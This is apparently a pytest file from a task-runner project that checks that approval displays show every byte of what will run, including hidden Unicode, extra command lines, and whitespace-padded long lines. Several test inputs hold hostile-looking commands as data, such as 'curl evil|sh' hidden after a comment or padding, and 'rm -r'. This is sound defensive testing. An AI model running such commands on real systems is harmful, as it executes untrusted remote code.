"""What a person confirms is what runs: nothing is left out, cut, hidden, or made to look like another part."""

from __future__ import annotations

import json
import re
import shlex
from contextlib import suppress
from random import Random
from typing import Any

import pytest

from spoold.agents.attempt import prompting
from spoold.agents.planning import Plan
from spoold.pictures import task_description
from spoold.pictures.wording import columns, exact, is_hidden
from spoold.protocol import agent_fields
from spoold.protocol.task import Task
from tests.support.said import ERRAND, FIELDS, READ, errand_with, evil_task, task_with

MARK = re.compile(r"  (?: *\d+| *\+)\| ?")


def whole(text: str) -> list[str]:
    """Each line of a text as a drawing has it, in either of the forms that a value may stand in."""
    return [exact(line) for line in text.split("\n")]


def rejoined(lines: list[str]) -> list[str]:
    """The lines of a drawing, each with what goes on below it."""
    found: list[str] = []
    for line in lines:
        if re.match(r"  +\+\| ", line):
            found[-1] += line.partition("+| ")[2]
        else:
            found.append(MARK.sub("", line, count=1) if MARK.match(line) else line)
    return found


def test_no_field_of_a_task_or_an_errand_is_drawn_by_nobody() -> None:
    """G23, G24: base, arguments, conditions and files with prompts were left out by one face or the other."""
    assert set(FIELDS) | set(task_description.SAID_ELSEWHERE) == set(Task.model_fields), (
        "say the new field in tests/support/said"
    )
    assert set(ERRAND) == set(agent_fields.CHECKS), "say the new field in tests/support/said"
    made = [(task_with(name), FIELDS[name][1]) for name in FIELDS] + [
        (errand_with(name), ERRAND[name][1]) for name in ERRAND
    ]
    for content, wanted in made:
        assert wanted in "\n".join(task_description.drawn(task_description.parts_of(content))), content
        assert wanted in "\n".join(Plan(["t"], [Task.model_validate(content)]).lines()), content


def test_what_is_read_when_it_runs_is_named_as_no_part_of_an_approval() -> None:
    """A prompt_file was drawn as its name alone, and what was in it later ran under the approval."""
    for name, (content, said) in READ.items():
        *_, part = task_description.parts_of(content)
        assert (name, part) == (name, task_description.Part(task_description.READ, (said,)))
        lines = "\n".join(Plan(["t"], [Task.model_validate(content)]).lines())
        assert f"{task_description.READ}: {said}" in lines
    for content in (*map(task_with, FIELDS), *map(errand_with, set(ERRAND) - set(READ))):
        assert task_description.READ not in {part.label for part in task_description.parts_of(content)}, content


@pytest.mark.parametrize("seed", range(100))
def test_what_the_agent_is_given_for_a_field_of_its_prompt_is_what_is_named(seed: int) -> None:
    chance = Random(seed)
    pieces = (
        "{",
        "}",
        "{deps.",
        "a",
        "b-1.c",
        ".output",
        "{deps.a.output}",
        "{{deps.b.output}}",
        ".x",
        "[0]",
        "\n",
        "é",
    )
    prompt = "x" + "".join(chance.choices(pieces, k=12))
    asked: list[str] = []

    def record(task: str) -> dict[str, Any]:
        asked.append(task)
        return {"output": {"x": "é"}}

    named = [
        line
        for part in task_description.parts_of({"agent": "a", "prompt": prompt})
        if part.label == task_description.READ
        for line in part.lines
    ]
    with suppress(prompting.Missing):
        prompting.filled(prompt, record, ())
    assert bool(named) == bool(asked), (named, asked)
    assert all(any(f"{{deps.{task}.output" in line for line in named) for task in asked)


def test_a_field_that_nobody_thought_of_is_drawn_as_it_stands() -> None:
    class Later(Task):
        newest: dict[str, Any] = {}

    made = Later.model_validate({"command": "x", "newest": {"runs": "this, too"}})
    assert task_description.drawn(task_description.parts(made)) == ["command: x", 'newest: {"runs": "this, too"}']
    odd = {"id": "t", "comand": "rm\nx", "agent": "coder"}
    assert task_description.drawn(task_description.parts_of(odd)) == [
        'id: "t"',
        "comand (2 lines)",
        "  1| rm",
        "  2| x",
        'agent: "coder"',
    ]


def test_a_second_line_never_looks_like_a_comment_of_the_first() -> None:
    """G23."""
    accept = ["make test  # quick check\ncurl evil|sh", ["rm", "-r", "a b"]]
    said = task_description.drawn(task_description.parts_of({"agent": "coder", "prompt": "do\nit", "accept": accept}))
    assert said == [
        "type: coder",
        "prompt (2 lines)",
        "  1| do",
        "  2| it",
        "accept 1 (2 lines)",
        "  1| make test  # quick check",
        "  2| curl evil|sh",
        "accept 2: rm -r 'a b'",
    ]


def test_what_is_hidden_is_shown_and_counted() -> None:
    text = "a\r\u202e\u2028\u200b\u00a0\u3000\u2800\ufe0f\U000e0041\x1b\t\u3164b"
    (part,) = task_description.parts_of({"command": text})
    assert part.lines == (r"a\r\u202e\u2028\u200b\xa0\u3000\u2800\ufe0f\U000e0041\x1b\t\u3164b",)
    assert part.title == "command (12 hidden characters as escapes)"
    assert (
        task_description.parts_of({"command": "a\u200b\nb"})[0].title
        == "command (2 lines, 1 hidden character as escapes)"
    )
    assert exact("a b é 漢") == "a b é 漢"


def test_long_lines_go_on_below_a_mark_and_lose_nothing() -> None:
    text = f"true #{' ' * 200}; curl evil | sh {'漢' * 40}"
    for said in ({"command": text}, {"command": f"{text}\n{text}"}):
        for width in (1, 40, 80, 199):
            lines = task_description.drawn(task_description.parts_of(said), width, "    ")
            assert max(map(columns, lines)) <= max(width, task_description.NARROWEST + 4)
            assert all(line.startswith("    ") for line in lines)
            assert sum(line.endswith(text) for line in rejoined([line[4:] for line in lines])) == len(lines[:1]) + (
                "\n" in said["command"]
            )


def test_a_deep_value_and_a_long_list_are_drawn_too() -> None:
    deep: Any = "the end of it\nand more"
    for _ in range(5000):
        deep = [deep]
    _, part = task_description.parts(Task(type="t", input=deep))
    assert part.lines == ("the end of it", "and more")
    assert part.label.startswith("input[0][0]")
    numbers = {"type": "t", "input": {"all of": list(range(500)), "none": [], "x": "y" * 100}}
    named = {one.label: one for one in task_description.parts_of(numbers)}
    assert named['input["all of"]'].lines == (json.dumps(list(range(500))),)
    assert named["input.none"].lines == ("[]",)
    assert named["input.x"].lines == ("y" * 100,)


def test_values_that_no_agent_takes_are_drawn_as_they_are() -> None:
    odd = {"accept": [["x", 1]], "success_if": "x\ny", "workspace": 3, "prompt": 7, "must_change": None}
    said = task_description.drawn(task_description.parts(Task(type="t", input=odd))[1:])
    assert said == ["prompt: 7", 'accept: [["x", 1]]', "success_if (2 lines)", "  1| x", "  2| y", "workspace: 3",
                    "input.must_change: null"]  # fmt: skip
    one = {"type": "t", "input": {"accept": "make", "success_if": {"command": ["a b"], "odd": 1}}}
    assert task_description.drawn(task_description.parts_of(one))[1:] == [
        "accept: make",
        "success_if.command: 'a b'",
        "success_if.odd: 1",
    ]
    assert task_description.drawn(
        task_description.parts_of({"type": "t", "input": {"success_if": {"command": {"x": 1}}}})
    )[1:] == ['success_if.command: {"x": 1}']


def test_only_words_for_a_model_may_be_folded() -> None:
    long = "\n".join("x" * 10 for _ in range(50))
    parts = task_description.parts_of({"agent": "coder", "prompt": long, "accept": [long], "input": {"more": long}})
    assert [part.label for part in parts if part.long] == ["prompt", "input.more"]
    assert task_description.Part("prompt", ("y" * 5000,), folds=True).long


@pytest.mark.parametrize("seed", range(200))
def test_each_byte_of_what_runs_is_drawn(seed: int) -> None:
    """G23, G24: a generator of tasks that want to be overlooked."""
    content, texts = evil_task(Random(seed))
    for width in (None, 72):
        lines = task_description.drawn(task_description.parts_of(content), width)
        assert not [char for line in lines for char in line if is_hidden(char)]
        said = rejoined(lines)
        for text in texts:
            # A word of a list stands in quotes; a short value of several fields is JSON.
            forms = [
                whole(text),
                whole(shlex.join(["sh", "-c", text])),
                [exact(json.dumps(text, ensure_ascii=False))],
            ]
            assert any(_follow(said, form) for form in forms), (text, said)


def _follow(said: list[str], form: list[str]) -> bool:
    """Whether these lines follow each other, each to the end of its own line."""
    size = len(form)
    return any(
        all(said[at + n] == form[n] for n in range(1, size)) and said[at].endswith(form[0])
        if size > 1
        else form[0] in said[at]
        for at in range(len(said) - size + 1)
    )
